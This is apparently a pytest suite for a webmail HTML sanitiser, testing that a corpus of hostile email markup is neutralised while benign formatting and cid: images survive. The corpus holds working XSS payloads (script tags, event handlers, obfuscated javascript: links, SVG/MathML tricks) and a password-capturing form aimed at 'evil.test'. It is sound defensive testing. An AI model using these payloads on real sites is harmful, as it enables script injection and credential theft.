"""HTML body sanitising (RFC 2854 bodies, RFC 2392 cid: images): a corpus of hostile markup, and what survives."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from carnet.webmail.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, Sanitized, sanitize_html

PIXEL = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAX+XDSwAAAABJRU5ErkJggg=="
)


class _Tree(HTMLParser):
    """Every element and attribute of a fragment, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _tree(fragment: str) -> _Tree:
    tree = _Tree()
    tree.feed(fragment)
    tree.close()
    return tree


_URL_ATTRIBUTES = ("src", "srcset", "background", "poster", "href", "action", "formaction", "data", "xlink:href")


def _assert_safe(fragment: str) -> None:
    """No active content, no handler, no remote reference: checked on the parsed output, then as text."""
    tree = _tree(fragment)
    assert not tree.comments
    allowed_everywhere = ALLOWED_ATTRIBUTES["*"]
    for tag, attrs in tree.elements:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("id", "name", "class", "srcset", "background", "poster", "formaction", "action")
            extra = {"rel", "target"} if tag == "a" else set()
            assert name in allowed_everywhere | ALLOWED_ATTRIBUTES.get(tag, frozenset()) | extra, (tag, name)
            lowered = re.sub(r"[\x00-\x20]", "", value).lower()
            assert "javascript:" not in lowered and "vbscript:" not in lowered
            if name in _URL_ATTRIBUTES and tag != "a":
                assert lowered.startswith("data:image/"), (tag, name, value)
                assert not lowered.startswith("data:image/svg"), value
            if tag == "a" and name == "href":
                assert lowered.split(":", 1)[0] in ("http", "https", "mailto", "tel"), value
            if name == "style":
                assert "url(" not in lowered and "expression" not in lowered and "\\" not in value
                assert "@import" not in lowered and "position" not in lowered and "http" not in lowered
            if tag == "a":
                assert attrs.get("rel") == "noopener noreferrer" and attrs.get("target") == "_blank"
    lowered = fragment.lower()
    for needle in ("<script", "<style", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<select",
                   "<textarea", "<meta", "<base", "<link", "<svg", "<math", "<video", "<template", "@import",
                   "url(", "javascript:", "<!--"):  # fmt: skip
        assert needle not in lowered, needle
    assert not re.search(r"\son[a-z]+\s*=", lowered)


# (hostile HTML, remote references it holds)
HOSTILE = [
    ("<script>alert(1)</script><p>x</p>", 0),
    ('<script src="https://evil.test/x.js"></script>', 1),
    ('<img src="x" onerror="alert(1)"><body onload="alert(2)"><p onmouseover=alert(3)>t</p>', 0),
    ("<svg><script>alert(1)</script><image href=https://evil.test/i.png /></svg>", 1),
    ('<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 0),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>", 0),
    ('<math href="javascript:alert(1)"><mi>x</mi></math>', 0),
    ('<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a>', 0),
    ('<a href="jav&#x09;ascript:alert(1)">c</a><a href="&#106;avascript:alert(1)">d</a>', 0),
    ('<a href=" javascript:alert(1)">e</a><a href="java\nscript:alert(1)">f</a>', 0),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">g</a>', 0),
    ('<a href="vbscript:msgbox(1)">h</a><a href="file:///etc/passwd">i</a><a href="cid:x">j</a>', 0),
    ('<meta http-equiv="refresh" content="0;url=https://evil.test/">', 0),
    ('<base href="https://evil.test/"><a href="/relative">k</a>', 0),
    ('<form action="https://evil.test/steal"><input name="password" type="password"><button>go</button></form>', 0),
    ('<button formaction="https://evil.test/">b</button><select><option>o</option></select><textarea>t</textarea>', 0),
    ('<input type="image" src="https://evil.test/i.png">', 1),
    ('<iframe src="https://evil.test/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>', 1),
    ('<object data="https://evil.test/o.swf"></object><embed src="https://evil.test/e.swf">', 2),
    ("<style>@import url(http://evil.test/a.css);</style>", 1),
    ("<style>@import 'https://evil.test/b.css'; p { background: url(https://evil.test/c.png) }</style>", 2),
    ('<div style="background:url(http://evil.test/bg.png)">d</div>', 1),
    ("<div style=\"background-image: URL( '//evil.test/bg.png' ); color: red\">d</div>", 1),
    ('<div style="width: expression(alert(1))">w</div>', 0),
    ('<div style="behavior: url(x.htc); -moz-binding: url(http://evil.test/x.xml#x)">b</div>', 1),
    ('<div style="color: red; position: fixed; top: 0; left: 0; z-index: 9999">overlay</div>', 0),
    ('<div style="color: \\72 ed; font-family: e\\78 pression">escapes</div>', 0),
    ("<div style=\"color: /* */ red; background-color: image-set('https://evil.test/i.png' 1x)\">x</div>", 0),
    ('<img src="http://tracker.test/pixel.gif" width="1" height="1">', 1),
    ('<img src="https://tracker.test/pixel.gif?u=camille">', 1),
    ('<img src="//tracker.test/x.png">', 1),
    ('<img srcset="https://t.test/a.png 1x, http://t.test/b.png 2x">', 2),
    ('<picture><source srcset="https://t.test/a.webp"><img src="cid:unknown@x"></picture>', 1),
    ('<table background="http://t.test/bg.png"><tr><td background="https://t.test/td.png">c</td></tr></table>', 2),
    ('<video poster="http://t.test/p.png" src="https://t.test/v.mp4"></video><audio src="//t.test/a.mp3"></audio>', 3),
    ('<link rel="stylesheet" href="http://t.test/s.css"><link rel="icon" href="https://t.test/f.ico">', 2),
    ("<!--[if IE]><script>alert(1)</script><img src=http://t.test/ie.png><![endif]--><p>after</p>", 0),
    ("<![if !IE]><p>not ie</p><![endif]><!-- plain comment -->", 0),
    ('<p id="login" name="form" class="button">spoof</p><a name="top" id="x">anchor</a>', 0),
    ('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">', 0),
    ('<img src="data:text/html,<script>alert(1)</script>">', 0),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', 0),
    ("<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>", 0),
    ('<a href="https://ok.test/" target="_self" rel="opener" onclick="x()">ok</a>', 0),
    ('<div dir="rtl\\" onmouseover=alert(1)" lang="fr\\"><script>">t</div>', 0),
    ("<plaintext><script>alert(1)</script>", 0),
]


@pytest.mark.parametrize(("hostile", "remote"), HOSTILE, ids=[str(n) for n in range(len(HOSTILE))])
def test_hostile_html_is_neutralised(hostile: str, remote: int) -> None:
    result = sanitize_html(hostile)
    assert isinstance(result, Sanitized)
    _assert_safe(result.html)
    assert result.remote_blocked == remote


def test_whole_corpus_at_once() -> None:
    document = "<html><head><title>x</title></head><body>" + "".join(h for h, _ in HOSTILE) + "</body></html>"
    result = sanitize_html(document)
    _assert_safe(result.html)
    assert result.remote_blocked == sum(remote for _, remote in HOSTILE)


def test_benign_formatting_survives() -> None:
    html = (
        '<div dir="ltr" lang="fr"><h1>Compte rendu</h1><p align="center">Bonjour <b>Camille</b>, <i>voici</i> '
        "<u>vos</u> <em>résultats</em> <strong>normaux</strong><br>à bientôt.</p>"
        '<table border="1" cellpadding="4" cellspacing="0" width="100%"><caption>Bilan</caption>'
        '<thead><tr><th colspan="2" align="left">Analyse</th></tr></thead>'
        '<tbody><tr><td valign="top" width="50%" style="color: #1a7f37; font-weight: bold">Glycémie</td>'
        '<td rowspan="1">0,95 g/L</td></tr></tbody></table>'
        "<ul><li>un</li><li>deux</li></ul><blockquote>citation</blockquote><pre>  espacé</pre>"
        '<font color="#ff0000" face="Arial" size="2">rouge</font>'
        '<p style="background-color: rgb(255, 255, 0); margin: 0 0 8px; padding-left: 4px; '
        'border-left: 2px solid #ccc; text-align: justify">surligné</p>'
        '<a href="https://carnet.test/dossier?id=1&amp;v=2" title="Dossier">mon dossier</a> '
        '<a href="mailto:anne.martin@carnet.test">écrire</a> <a href="tel:+33123456789">appeler</a>'
        f'<img src="{PIXEL}" alt="point" width="1" height="1"></div>'
    )
    result = sanitize_html(html)
    _assert_safe(result.html)
    assert result.remote_blocked == 0
    tree = _tree(result.html)
    tags = [tag for tag, _ in tree.elements]
    for tag in ("div", "h1", "p", "b", "i", "u", "em", "strong", "br", "table", "caption", "thead", "tbody", "tr",
                "th", "td", "ul", "li", "blockquote", "pre", "font", "a", "img"):  # fmt: skip
        assert tag in tags, tag
    attributes = dict(tree.elements)
    assert attributes["div"] == {"dir": "ltr", "lang": "fr"}
    assert attributes["table"] == {"border": "1", "cellpadding": "4", "cellspacing": "0", "width": "100%"}
    assert attributes["th"] == {"colspan": "2", "align": "left"}
    assert attributes["font"] == {"color": "#ff0000", "face": "Arial", "size": "2"}
    assert attributes["img"] == {"src": PIXEL, "alt": "point", "width": "1", "height": "1"}
    links = [attrs for tag, attrs in tree.elements if tag == "a"]
    assert [link["href"] for link in links] == [
        "https://carnet.test/dossier?id=1&v=2",
        "mailto:anne.martin@carnet.test",
        "tel:+33123456789",
    ]
    assert links[0]["title"] == "Dossier"
    styles = [attrs["style"] for tag, attrs in tree.elements if "style" in attrs]
    assert "color:#1a7f37" in styles[0].replace(" ", "") and "font-weight:bold" in styles[0].replace(" ", "")
    assert "background-color" in styles[1] and "border-left" in styles[1] and "text-align" in styles[1]
    text = "".join(tree.text)
    assert "Glycémie" in text and "  espacé" in text and "surligné" in text


def test_cid_images_are_replaced_from_the_map() -> None:
    images = {"logo@carnet.test": PIXEL, "Part.2@X": PIXEL}
    html = (
        '<img src="cid:logo@carnet.test" alt="a"><img src="cid:logo%40carnet.test" alt="b">'
        '<img src="CID:Part.2@X" alt="c"><img src="cid:part.2@x" alt="d"><img src="cid:missing@x" alt="e">'
        '<img src=" cid:logo@carnet.test " alt="f">'
    )
    result = sanitize_html(html, cid_images=images)
    _assert_safe(result.html)
    sources = [attrs.get("src") for _, attrs in _tree(result.html).elements]
    # Content-IDs compare case-sensitively (RFC 2392 §2), after undoing %hh escapes.
    assert sources == [PIXEL, PIXEL, PIXEL, None, None, PIXEL]
    assert result.remote_blocked == 0
    assert "cid:" not in result.html


def test_data_images_kept_only_for_raster_types() -> None:
    html = (
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
        '<img src="data:image/jpeg;base64,/9j/4AAQ">'
        '<img src="data:image/gif;base64,R0lGODlh">'
        '<img src="data:image/webp;base64,UklGRg==">'
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">'
        '<img src="data:image/png,rawnotbase64">'
        '<img src="data:text/html;base64,PHNjcmlwdD4=">'
    )
    sources = [attrs.get("src", "") for _, attrs in _tree(sanitize_html(html).html).elements]
    assert [source.split(",")[0] for source in sources] == [
        "data:image/png;base64",
        "data:image/jpeg;base64",
        "data:image/gif;base64",
        "data:image/webp;base64",
        "",
        "",
        "",
    ]


def test_text_is_escaped_not_interpreted() -> None:
    result = sanitize_html('a &lt;script&gt; &amp; b < c > d "e" <unknown-tag>f</unknown-tag>')
    _assert_safe(result.html)
    assert "&lt;script&gt;" in result.html and "<unknown-tag" not in result.html
    assert "".join(_tree(result.html).text) == 'a <script> & b < c > d "e" f'


def test_unparseable_markup_still_counts() -> None:
    result = sanitize_html('<![bogus[ x ]]><img src="https://t.test/a.png"><p style="background:url(//t.test/b)">x')
    _assert_safe(result.html)
    assert result.remote_blocked == 2


@pytest.mark.parametrize("html", ["", "   ", "plain", "\x00<p>\x00</p>", "<" * 1000, "<p>" * 2000])
def test_degenerate_input(html: str) -> None:
    result = sanitize_html(html)
    _assert_safe(result.html)
    assert result.remote_blocked == 0
